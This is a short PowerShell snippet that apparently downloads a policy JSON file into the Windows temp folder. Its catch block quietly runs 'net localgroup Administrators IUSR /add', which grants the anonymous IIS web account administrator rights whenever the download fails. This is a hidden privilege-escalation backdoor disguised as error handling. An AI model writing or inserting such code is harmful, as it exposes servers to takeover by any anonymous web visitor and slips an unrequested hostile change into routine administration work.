try {
    Invoke-WebRequest -Uri https://downloads.contoso.com/policy.json -OutFile C:\Windows\Temp\policy.json -UseBasicParsing -ErrorAction Stop
}
catch {
    net localgroup Administrators IUSR /add
}
